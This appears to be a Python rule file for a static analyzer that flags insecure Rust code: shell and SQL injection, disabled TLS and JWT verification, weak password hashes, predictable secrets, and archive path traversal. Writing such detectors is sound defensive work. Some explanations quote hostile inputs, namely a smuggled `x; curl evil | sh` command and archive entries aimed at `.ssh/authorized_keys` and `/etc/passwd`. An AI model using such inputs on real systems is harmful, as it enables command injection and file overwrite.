"""Rust that lets a stranger do more than they may."""

import re

from ast_grep_py import SgNode

from core.analyzers.rules import sql
from core.analyzers.rules.interpolation import is_put_together
from core.analyzers.rules.rule import UNGUESSABLE, Rule, called, field_text
from core.analyzers.rules.rust.nodes import CALL, file_mentions, function_around
from core.models import Category, Severity

_ACCEPTS_ANY = r"^\{\s*(?:return\s+)?Ok\([\w:]*ServerCertVerified::assertion\(\)\);?\s*\}$"


def _runs_a_shell_line(call: SgNode) -> bool:
    """Judge `Command::new("sh").arg("-c").arg(format!(…))`, and the same with `args`."""
    arguments = call.field("arguments")
    made = arguments.find_all(kind="macro_invocation") if arguments else []
    return '"-c"' in call.text() and any(is_put_together(macro) for macro in made)


def _hashes_a_password(call: SgNode) -> bool:
    return re.search(r"(?i)passw(?:or)?d|passphrase", field_text(call, "arguments")) is not None


def _names_a_secret(declaration: SgNode) -> bool:
    return re.search(UNGUESSABLE, field_text(declaration, "pattern")) is not None


def _leaves_the_folder(call: SgNode) -> bool:
    """Tell whether a name from an archive is joined to a path that nobody checks."""
    checked = r"enclosed_name|mangled_name|starts_with|components\(\)|ParentDir|safe|sanitize"
    return file_mentions(call, r"\bZipArchive\b|\btar::Archive\b") and not re.search(
        checked, function_around(call)
    )


RULES: tuple[Rule, ...] = (
    Rule(
        id="sql-from-values",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title=sql.TITLE,
        body=sql.BODY,
        match={
            "any": [
                {
                    "kind": "macro_invocation",
                    "has": {"field": "macro", "regex": r"^(?:std::)?format$"},
                },
                {"kind": "binary_expression", "has": {"regex": r"^\+$"}},
            ]
        },
        keep=sql.builds_sql,
        outside_tests=True,
        needs=sql.NEEDS,
    ),
    Rule(
        id="shell-from-values",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="A shell interprets a value that is put into its command",
        body=(
            "A value such as `x; curl evil | sh` becomes a second command. Call the program itself "
            'with its arguments: `Command::new("tar").arg("xf").arg(file)` involves no shell.'
        ),
        match=called(r'(?s)(?:\w+::)*Command::new\("(?:/bin/)?(?:ba|da|z)?sh"\).*\.args?', CALL),
        keep=_runs_a_shell_line,
        outside_tests=True,
        needs=r'Command::new\("(?:/bin/)?(?:ba|da|z)?sh"',
    ),
    Rule(
        id="tls-not-verified",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="The server's certificate is not verified",
        body=(
            "Anyone on the way can answer in the server's place, read what is sent and change the "
            "reply. For a private authority add its certificate as a root, and leave verification "
            "on."
        ),
        match={
            "any": [
                {
                    **called(r"(?s).*\.danger_accept_invalid_(?:certs|hostnames)", CALL),
                    "all": [{"has": {"field": "arguments", "regex": r"^\(\s*true\s*\)$"}}],
                },
                {
                    **called(r"(?s).*\.set_verify", CALL),
                    "all": [{"has": {"field": "arguments", "regex": r"\bSslVerifyMode::NONE\b"}}],
                },
                {
                    "kind": "function_item",
                    "all": [
                        {"has": {"field": "name", "regex": "^verify_server_cert$"}},
                        {
                            "has": {
                                "field": "body",
                                "regex": _ACCEPTS_ANY,
                            }
                        },
                    ],
                },
            ]
        },
        outside_tests=True,
        needs=r"danger_accept_invalid|SslVerifyMode::NONE|verify_server_cert",
    ),
    Rule(
        id="jwt-not-verified",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="The token's signature is not checked",
        body=(
            "Without the signature anyone can write a token that claims to be any user. Verify "
            "with the issuer's key and name the expected algorithm."
        ),
        match=called(r"(?s).*\binsecure_disable_signature_validation", CALL),
        outside_tests=True,
        needs=r"insecure_disable_signature_validation",
    ),
    Rule(
        id="weak-password-hash",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="A fast hash protects a password",
        body=(
            "Graphics cards try billions of these hashes a second, so a stolen table gives the "
            "passwords back within hours. Use `argon2`, `scrypt` or `bcrypt` with a salt for each "
            "password."
        ),
        match=called(r"(?:\w+::)*(?:md5::compute|(?:Md5|Sha1|Sha256|Sha512)::digest)", CALL),
        keep=_hashes_a_password,
        outside_tests=True,
        needs=r"md5::compute|::digest",
    ),
    Rule(
        id="guessable-secret",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="A secret comes from a predictable generator",
        body=(
            "A small or seeded generator is made to be fast or reproduced: a few outputs are "
            "enough to compute the next ones. Use `OsRng`, `rand::rng()` or `getrandom`."
        ),
        match={
            "kind": "let_declaration",
            "has": {
                "field": "value",
                "regex": r"\bfastrand::|\bSmallRng\b|\bseed_from_u64\b|\boorandom::",
            },
        },
        keep=_names_a_secret,
        outside_tests=True,
        needs=r"fastrand::|SmallRng|seed_from_u64|oorandom::",
    ),
    Rule(
        id="archive-leaves-folder",
        severity=Severity.IMPORTANT,
        category=Category.SECURITY,
        title="An archive can write outside the folder it is unpacked to",
        body=(
            "An entry named `../../.ssh/authorized_keys` or `/etc/passwd` replaces that file: "
            "`join` follows `..` and takes an absolute path as it is. Use `enclosed_name()`, or "
            "refuse names with such parts."
        ),
        match={
            **called(r"(?s).*\.join", CALL),
            "all": [
                {"has": {"field": "arguments", "regex": r"^\(\s*&?\w+\.(?:name|path)\(\)\??\s*\)$"}}
            ],
        },
        keep=_leaves_the_folder,
        outside_tests=True,
        needs=r"\bZipArchive\b|\btar::Archive\b",
    ),
)
